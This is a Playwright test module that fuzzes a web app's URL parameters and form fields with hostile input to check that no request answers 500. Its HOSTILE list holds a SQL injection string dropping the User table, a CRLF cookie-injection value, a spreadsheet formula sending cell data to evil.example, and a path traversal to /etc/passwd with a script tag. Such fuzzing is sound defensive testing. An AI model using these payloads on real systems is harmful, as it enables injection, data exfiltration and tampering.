import { expect, test, type APIRequestContext, type Page } from '@playwright/test'

/**
 * Hostile values in every URL parameter and every field of every form: nothing may answer 500
 * (hostile-input.spec.ts and hostile-input.shared.spec.ts). Forms are read from the pages
 * themselves, so a new form is covered without touching this file; each field is sent hostile
 * in turn, the others as the page filled them.
 */

/**
 * The probes carry this tag. `npm test` runs them on its PostgreSQL pass only (decision 020):
 * they test the server's parsing, the same code on both databases, and PostgreSQL is the stricter
 * of the two (typed columns and integer ranges, where SQLite stores what it is given).
 * Run them on SQLite with `npx playwright test --grep @hostile`.
 */
export const HOSTILE_TAG = { tag: '@hostile' }

/**
 * Every value goes into each form field in turn, and into every URL parameter at once (short
 * enough that the whole URL stays under Node's 16 KB header limit, which answers 431).
 */
const HOSTILE = [
  'abc',
  '-1',
  '1.5',
  '1e400',
  '9'.repeat(40),
  'x'.repeat(200),
  `'; DROP TABLE "User"; --`,
  'a\r\nSet-Cookie: x=1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
  '\u3000\u2014 ação ../../etc/passwd <script>',
]

/**
 * Form fields get the same values, except 'abc' (the last one is not a number either) and the
 * 200 characters (the URL's longest), which give way to a long text: bodies have no such limit.
 */
const HOSTILE_FIELD = [...HOSTILE.filter((v) => v !== 'abc' && v.length !== 200), 'x'.repeat(5000)]

/**
 * What each parameter also gets alone, so one parameter's refusal cannot hide another's: one
 * value that is long, not a number, and carries a line break, wide characters and quotes.
 */
const HOSTILE_ALONE = [`abc${'x'.repeat(3000)}\r\n\u3000\u2014"'=;%`]

/** Every query parameter a loader reads somewhere, tried on every page. */
const PARAMS = [
  'page',
  'q',
  'status',
  'role',
  'sort',
  'minDays',
  'maxDays',
  'state',
  'rep',
  'segment',
  'family',
  'redirectTo',
  'to',
  'table',
  'campaign',
  'token',
  'e',
  's',
  'welcome',
  'payment',
  'placed',
  'created',
  'saved',
  'reset',
]

/** Forms that end the session or change who is logged in: sent once at the end, not fuzzed. */
const SESSION_ACTIONS = /\/auth\/logout|\/resources\/impersonation/

type Field = { name: string; type: string; value: string }
type FoundForm = { action: string; multipart: boolean; fields: Field[] }

async function formsOn(page: Page): Promise<FoundForm[]> {
  return page.$$eval('form', (forms) =>
    forms
      .filter((form) => form.method.toLowerCase() === 'post')
      .map((form) => ({
        action: form.action,
        multipart: form.enctype === 'multipart/form-data',
        fields: [
          ...Array.from(form.elements),
          ...Array.from(document.querySelectorAll(`[form="${form.id}"]`)),
        ]
          .filter(
            (
              el,
            ): el is
              | HTMLInputElement
              | HTMLSelectElement
              | HTMLTextAreaElement
              | HTMLButtonElement => 'name' in el && !!(el as HTMLInputElement).name,
          )
          .filter(
            (el) => !['checkbox', 'radio'].includes(el.type) || (el as HTMLInputElement).checked,
          )
          .map((el) => ({ name: el.name, type: el.type, value: el.value })),
      })),
  )
}

async function expectNo500(
  failures: string[],
  what: string,
  send: () => Promise<{ status(): number }>,
) {
  const response = await send()
  if (response.status() >= 500) failures.push(`${response.status()} ${what}`)
}

function describeValue(value: string) {
  return JSON.stringify(value.length > 40 ? `${value.slice(0, 20)}…(${value.length})` : value)
}

/**
 * Sends every hostile value to `url`'s parameters and to every form on it not `seen` already
 * (the language switch is on every page), adding each answer of 500 to `failures`.
 */
async function fuzzPage(page: Page, url: string, failures: string[], seen: Set<string>) {
  const request = page.request
  const origin = new URL(test.info().project.use.baseURL!).origin
  // URL parameters: each hostile value in all of them at once, then each alone.
  const with_ = (pairs: [string, string][]) =>
    `${url}${url.includes('?') ? '&' : '?'}${new URLSearchParams(pairs).toString()}`
  const gets = [
    ...HOSTILE.map((value) => ({
      what: `all=${describeValue(value)}`,
      target: with_(PARAMS.map((param) => [param, value])),
    })),
    ...PARAMS.flatMap((param) =>
      HOSTILE_ALONE.map((value) => ({
        what: `${param}=${describeValue(value)}`,
        target: with_([[param, value]]),
      })),
    ),
  ]
  await inBatches(gets, ({ what, target }) =>
    expectNo500(failures, `GET ${url} ${what}`, () => request.get(target, { maxRedirects: 0 })),
  )
  // Downloads have no forms; a page that refuses this role has none worth sending.
  if (/\.csv(\?|$)/.test(url)) return
  const response = await page.goto(url)
  if (!response || response.status() >= 400) return
  const headers = { Origin: origin }
  for (const form of await formsOn(page)) {
    const key = `${new URL(form.action).pathname} ${form.fields.map((f) => f.name).join(',')}`
    if (SESSION_ACTIONS.test(form.action) || seen.has(key)) continue
    seen.add(key)
    const action = form.action
    // Not a form at all: no body, and a body of the wrong kind.
    await expectNo500(failures, `POST ${action} (empty)`, () =>
      request.post(action, { headers, maxRedirects: 0 }),
    )
    await expectNo500(failures, `POST ${action} (text/plain)`, () =>
      request.post(action, {
        headers: { ...headers, 'Content-Type': 'text/plain' },
        data: 'x=1',
        maxRedirects: 0,
      }),
    )
    // Each field hostile in turn, the others as the page filled them; a few posts in flight.
    const posts = form.fields.flatMap((field) => HOSTILE_FIELD.map((value) => ({ field, value })))
    await inBatches(posts, ({ field, value }) => {
      const values = form.fields.map((f) => ({ ...f, value: f === field ? value : f.value }))
      return expectNo500(failures, `POST ${action} ${field.name}=${describeValue(value)}`, () =>
        postForm(request, action, headers, form, values),
      )
    })
  }
}

/** Runs `send` over `items`, four at a time. */
async function inBatches<T>(items: T[], send: (item: T) => Promise<void>) {
  for (let i = 0; i < items.length; i += 4) await Promise.all(items.slice(i, i + 4).map(send))
}

function postForm(
  request: APIRequestContext,
  action: string,
  headers: Record<string, string>,
  form: FoundForm,
  values: Field[],
) {
  if (form.multipart) {
    const multipart = new FormData()
    for (const { name, value, type } of values) {
      if (type === 'file') {
        // The file's own name is hostile too.
        multipart.append(
          name,
          new Blob([`${value};1\n`], { type: 'text/csv' }),
          `a=b;${value.slice(0, 50)}.csv`,
        )
      } else multipart.append(name, value)
    }
    return request.post(action, { headers, multipart, maxRedirects: 0 })
  }
  const body = new URLSearchParams()
  for (const { name, value, type } of values) if (type !== 'file') body.append(name, value)
  return request.post(action, {
    headers: { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' },
    data: body.toString(),
    maxRedirects: 0,
  })
}

/** Fuzzes each page as the page's user; fails listing every answer of 500. */
export async function expectNo500s(page: Page, urls: string[]) {
  const failures: string[] = []
  const seen = new Set<string>()
  for (const url of urls) await fuzzPage(page, url, failures, seen)
  expect(failures, failures.join('\n')).toEqual([])
}
